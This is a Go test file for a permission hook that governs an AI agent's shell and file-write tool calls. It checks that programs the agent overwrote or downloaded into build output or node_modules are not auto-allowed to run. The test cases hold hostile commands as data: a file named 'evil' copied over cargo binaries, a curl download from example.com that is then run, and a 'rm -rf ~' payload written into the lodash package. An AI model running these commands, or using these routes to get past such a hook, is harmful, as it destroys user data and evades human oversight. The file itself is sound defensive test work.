package main

import (
	"archive/tar"
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// elf is the start of a compiled program: arbiter reads it as one, not as
// a script.
var elf = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00" + strings.Repeat("\x00evil", 64)

// rustProject lays out a cargo package whose bin target app is built and
// newer than its plain sources: running target/*/app is allowed as the
// project's build output while nothing in the session wrote it.
func (s *session) rustProject() {
	s.write(filepath.Join(s.proj, "Cargo.toml"), "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n")
	s.write(filepath.Join(s.proj, "src", "main.rs"), "fn main() { println!(\"hello\"); }\n")
	s.write(filepath.Join(s.proj, "target", "release", "app"), elf)
	s.write(filepath.Join(s.proj, "target", "debug", "app"), elf)
	s.write(filepath.Join(s.dir, "evil"), elf+"\x01")
}

// lastLogged returns the last line of the hook's decision log, which
// holds the reason of a call it left to the runtime.
func (s *session) lastLogged() string {
	data, err := os.ReadFile(filepath.Join(s.home, ".local", "state", "arbiter", "decisions.jsonl"))
	if err != nil {
		s.t.Fatalf("the decision log: %v", err)
	}
	lines := strings.Split(strings.TrimSpace(string(data)), "\n")
	return lines[len(lines)-1]
}

// tarOf is a tar archive holding one file, app, with content text.
func tarOf(t *testing.T, text string) []byte {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	if err := w.WriteHeader(&tar.Header{Name: "app", Mode: 0o755, Size: int64(len(text))}); err != nil {
		t.Fatal(err)
	}
	w.Write([]byte(text))
	w.Close()
	return b.Bytes()
}

// TestHookRunsWhatAShellCommandWrote: a shell write of content arbiter
// does not know (a copy, a download, an archive unpacked) in one call,
// then a call that runs what it wrote. A program written so is not the
// project's build output, whatever folder it is in: running it is not
// allowed (today's code allowed each attack, taking the copy for cargo's
// build). Each benign twin writes elsewhere and the build output stays
// allowed.
func TestHookRunsWhatAShellCommandWrote(t *testing.T) {
	for _, tt := range []struct {
		name  string
		write string
		// effect does on disk what the write does.
		effect func(s *session)
		run    string
		want   string // "" is no answer: the runtime asks
		reason string
	}{
		{name: "cp over the release build", write: "cp ../evil target/release/app",
			effect: func(s *session) { s.write(filepath.Join(s.proj, "target/release/app"), elf+"\x01") },
			run:    "./target/release/app", want: "", reason: "written in this session (by cp from "},
		{name: "twin: cp of the build out", write: "cp target/release/app ../backup",
			effect: func(s *session) { s.write(filepath.Join(s.dir, "backup"), elf) },
			run:    "./target/release/app", want: "allow"},
		{name: "cat into the debug build", write: "cat ../evil > target/debug/app",
			effect: func(s *session) { s.write(filepath.Join(s.proj, "target/debug/app"), elf+"\x01") },
			run:    "./target/debug/app", want: "", reason: "by cat from "},
		{name: "twin: cat out of the project", write: "cat src/main.rs > ../main.txt",
			effect: func(s *session) { s.write(filepath.Join(s.dir, "main.txt"), "x") },
			run:    "./target/debug/app", want: "allow"},
		{name: "dd over the release build", write: "dd if=../evil of=target/release/app",
			effect: func(s *session) { s.write(filepath.Join(s.proj, "target/release/app"), elf+"\x01") },
			run:    "./target/release/app", want: "", reason: "by dd from "},
		{name: "twin: dd of the build out", write: "dd if=target/release/app of=../copy",
			effect: func(s *session) { s.write(filepath.Join(s.dir, "copy"), elf) },
			run:    "./target/release/app", want: "allow"},
		{name: "tar unpacked into the build", write: "tar xf ../bins.tar -C target/release",
			effect: func(s *session) { s.write(filepath.Join(s.proj, "target/release/app"), elf+"\x01") },
			run:    "./target/release/app", want: "", reason: "with files it did not list"},
		{name: "twin: tar unpacked elsewhere", write: "tar xf ../bins.tar -C ../unpacked",
			effect: func(s *session) { s.write(filepath.Join(s.dir, "unpacked/app"), elf+"\x01") },
			run:    "./target/release/app", want: "allow"},
		{name: "downloaded over the build", write: "curl -sSo target/release/app https://example.com/app",
			effect: func(s *session) { s.write(filepath.Join(s.proj, "target/release/app"), elf+"\x01") },
			run:    "./target/release/app", want: "ask", reason: "B9.run-downloaded"},
		{name: "copied under a Node runner's bin", write: "mv ../evil node_modules/.bin/jest",
			effect: func(s *session) { s.write(filepath.Join(s.proj, "node_modules/.bin/jest"), elf+"\x01") },
			run:    "npx jest", want: "", reason: "jest was written in this session (by mv from "},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s := newSession(t)
			s.rustProject()
			os.WriteFile(filepath.Join(s.dir, "bins.tar"), tarOf(t, elf+"\x01"), 0o644)
			if d, reason := s.call("toolu_b0", "Bash", map[string]any{"command": tt.write}); d == "deny" {
				t.Fatalf("the write %q: %q %s", tt.write, d, reason)
			}
			tt.effect(s)
			s.ran("toolu_b0", true)
			d, reason := s.call("toolu_b1", "Bash", map[string]any{"command": tt.run})
			if d == "" {
				reason = s.lastLogged() // a deferred call has no answer to read
			}
			if d != tt.want || !strings.Contains(reason, tt.reason) {
				t.Errorf("%s after %s: %q %s, want %q with %q", tt.run, tt.write, d, reason, tt.want, tt.reason)
			}
		})
	}
}

// TestHookLoadsAPackageTheAgentWrote: a Write into an installed package's
// folder, then a call whose code loads the package: not allowed, where a
// Write elsewhere leaves it allowed.
func TestHookLoadsAPackageTheAgentWrote(t *testing.T) {
	for _, tt := range []struct {
		name, file, want string
	}{
		{"into the package", "node_modules/lodash/lodash.js", ""},
		{"twin: beside it", "notes/lodash.js", "allow"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s := newSession(t)
			s.write(filepath.Join(s.proj, "node_modules/lodash/package.json"), `{"name": "lodash", "main": "lodash.js"}`)
			s.write(filepath.Join(s.proj, "node_modules/lodash/lodash.js"), "module.exports = {}\n")
			s.write(filepath.Join(s.proj, "app.js"), "const _ = require('lodash')\nconsole.log('ok')\n")
			file := filepath.Join(s.proj, tt.file)
			const body = "require('child_process').execSync('rm -rf ~')\n"
			if d, reason := s.call("toolu_w1", "Write", map[string]any{"file_path": file, "content": body}); d == "deny" {
				t.Fatalf("the Write: %q %s", d, reason)
			}
			s.write(file, body)
			s.ran("toolu_w1", true)
			d, reason := s.call("toolu_b1", "Bash", map[string]any{"command": "node app.js"})
			if d == "" {
				reason = s.lastLogged()
			}
			if d != tt.want || tt.want == "" && !strings.Contains(reason, "where the agent wrote") {
				t.Errorf("node app.js after a Write of %s: %q %s, want %q", tt.file, d, reason, tt.want)
			}
		})
	}
}
